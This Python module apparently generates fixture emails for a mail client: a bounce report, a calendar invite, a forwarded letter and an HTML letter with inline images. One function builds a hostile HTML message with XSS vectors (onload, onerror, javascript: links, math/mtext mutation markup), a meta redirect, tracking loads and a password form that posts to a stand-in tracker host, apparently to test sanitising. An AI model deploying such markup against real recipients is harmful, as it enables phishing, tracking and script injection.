"""Letters of unusual make: a bounce, an invitation, a forwarded letter, pictures inside, broken mail.

The broken ones are stated as bytes, since no library would agree to write them.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage, MIMEPart
from email.policy import SMTP
from email.utils import format_datetime

from firsthand.sample import attachments
from firsthand.sample.broken import broken
from firsthand.sample.catalogue import moment
from firsthand.sample.compose import ADA, finished, received


@dataclass(frozen=True, slots=True)
class Odd:
    """An odd letter: what it is called, when it came and its bytes."""

    key: str
    kind: str
    at: datetime
    raw: bytes
    seen: bool = False


def all_of(now: datetime) -> Iterator[Odd]:
    """Every odd letter of the mailbox."""
    yield _bounce(now)
    yield _invitation(now)
    yield _forwarded(now)
    yield _picture_letter(now)
    yield _hostile_page(now)
    for key, kind, when, raw in broken(now):
        yield Odd(key, kind, moment(when, now), raw)


def _begin(key: str, sender: str, subject: str, at: datetime) -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    message["Received"] = received(sender, at)
    message["From"] = sender
    message["To"] = ADA
    message["Subject"] = subject
    message["Date"] = at
    domain = sender.rpartition("@")[2].rstrip(">")
    message["Message-ID"] = f"<odd.{key}@{domain}>"
    return message


def _bounce(now: datetime) -> Odd:
    """A delivery report (RFC 3464) about a letter that Ada wrote to an address that is gone."""
    at = moment("76d 08:31", now)
    sender = "Mail Delivery System <mailer-daemon@mx.ada.example>"
    message = _begin("bounce", sender, "Undelivered mail returned to sender", at)
    message["Auto-Submitted"] = "auto-replied"
    message["Content-Type"] = 'multipart/report; report-type="delivery-status"'
    told = EmailMessage(policy=SMTP)
    told.set_content(
        "Your letter to <keeper@hansweert-lock.example> could not be delivered.\n"
        "The server there says: 550 5.1.1 no such keeper; retired.\n"
    )
    status = MIMEPart(policy=SMTP)
    status["Content-Type"] = "message/delivery-status"
    status.set_payload([_fields(MIMEPart(policy=SMTP), lines) for lines in _STATUS])
    original = EmailMessage(policy=SMTP)
    original["From"], original["To"] = ADA, "keeper@hansweert-lock.example"
    original["Subject"] = "May I visit the lock?"
    original["Message-ID"] = "<visit-the-lock@ada.example>"
    original.set_content("Dear keeper, may I come and stand about for an hour? Ada Ferrer\n")
    returned = MIMEPart(policy=SMTP)
    returned.set_content(original)
    message.set_payload([told, status, returned])
    return Odd("bounce", "notice", at, finished(message, "bounce"))


_STATUS = (
    {"Reporting-MTA": "dns; mx.ada.example"},
    {
        "Final-Recipient": "rfc822; keeper@hansweert-lock.example",
        "Action": "failed",
        "Status": "5.1.1",
        "Diagnostic-Code": "smtp; 550 5.1.1 no such keeper; retired",
    },
)


def _fields(part: MIMEPart, lines: dict[str, str]) -> MIMEPart:
    for name, value in lines.items():
        part[name] = value
    return part


def _invitation(now: datetime) -> Odd:
    """A calendar invitation (RFC 6047), as Anouk's programme sends it."""
    at = moment("50h", now)
    message = _begin(
        "invitation", "Anouk de Wit <anouk@deltaforum.example>", "Invitation: sound check", at
    )
    message.set_content("You are invited: sound check and soup, before the Delta Forum.\n")
    event = attachments.ics(
        uid="soundcheck-7@deltaforum.example",
        summary="Sound check and soup",
        place="Ferry hall, Rotterdam",
        start=at.replace(hour=14, minute=0) + timedelta(days=150),
        organizer="anouk@deltaforum.example",
    )
    message.add_alternative(
        event.decode().replace("\r\n", "\n"), subtype="calendar", params={"method": "REQUEST"}
    )
    message.add_attachment(event, "application", "ics", filename="invite.ics")
    return Odd("invitation", "notice", at, finished(message, "invitation"))


def _forwarded(now: datetime) -> Odd:
    """Nil forwards a letter that their father once wrote, as a message within the message."""
    at = moment("7d 22:10", now)
    inner = EmailMessage(policy=SMTP)
    inner["From"] = "Josep Ferrer <josep@delta.example>"
    inner["To"] = "Nil Ferrer <nil@naranjal.example>"
    inner["Subject"] = "El riu, avui"
    inner["Date"] = datetime(2009, 11, 2, 18, 40, tzinfo=UTC)
    inner["Message-ID"] = "<el-riu-avui@delta.example>"
    inner.set_content(
        "Fill, avui el riu ha passat per sota la porta a les quatre i ha marxat a les sis.\n"
        "He netejat les botes i les he deixat a l'escala, que s'assequin. Digues-li a l'Ada\n"
        "que no es preocupi: ve, mira, i se'n va, com ella.\n\nPapà\n"
    )
    message = _begin("forwarded", "Nil Ferrer <nil@naranjal.example>", "Fwd: El riu, avui", at)
    message.set_content(
        "Found this when I looked for the builder's old estimate. He even mentions the boots.\n"
        "I thought you should have it before chapter nine is printed. Or after. You choose.\n\nNil\n"
    )
    message.add_attachment(inner)
    return Odd("forwarded-father", "personal", at, finished(message, "forwarded"), seen=True)


def _picture_letter(now: datetime) -> Odd:
    """A letter in HTML with a picture inside it (RFC 2392) and a hidden preview line."""
    at = moment("5d 12:05", now)
    message = _begin(
        "picture", "Orla Finch <orla@smalltype.example>", "Endpapers: dawn or dusk?", at
    )
    message.set_content(
        "Dear Ada,\n\nTwo endpapers, dawn and dusk. I have looked at them so long that I can't see"
        " either.\nWhich one is the book? I set the file on Friday.\n\nOrla\n"
    )
    message.add_alternative(
        '<html><body><div style="display:none">Endpapers for your eyes</div><p>Dear Ada,</p>'
        "<p>Two endpapers, <b>dawn</b> and <b>dusk</b>. I have looked at them so long that I can't"
        " see either. Which one is the book? I set the file on Friday.</p>"
        '<p><img src="cid:dawn.png" alt="dawn"> <img src="cid:dusk.png" alt="dusk"></p>'
        "<p>Orla</p></body></html>",
        subtype="html",
    )
    page = message.get_body(("html",))
    assert isinstance(page, EmailMessage)
    for name in ("dawn.png", "dusk.png"):
        page.add_related(
            attachments.png(name),
            "image",
            "png",
            cid=f"<{name}>",
            disposition="inline",
            filename=name,
        )
    return Odd("endpapers", "personal", at, finished(message, "picture"))


def _hostile_page(now: datetime) -> Odd:
    """A page that tries what pages try: scripts, handlers, forms, frames, styles that load."""
    at = moment("45h", now)
    message = _begin("hostile", "Prize Desk <desk@glitter-page.example>", "Your page is ready", at)
    message.set_content(
        '<html><head><style>@import url("https://tracker.example/s.css");'
        "body{background:url(https://tracker.example/bg.png)}</style>"
        '<meta http-equiv="refresh" content="0;url=https://tracker.example/go"></head>'
        '<body onload="alert(1)"><svg onload="alert(2)"></svg>'
        '<a href="javascript:alert(3)">See your page</a>'
        '<iframe src="https://tracker.example/frame"></iframe>'
        '<form action="https://tracker.example/take"><input name="password"></form>'
        '<math><mtext><img src=x onerror="alert(4)"></mtext></math>'
        f"<p>Dear Ada, your page has been ready since {format_datetime(at)}.</p></body></html>",
        subtype="html",
    )
    return Odd("junk-hostile-page", "junk", at, finished(message, "hostile"))
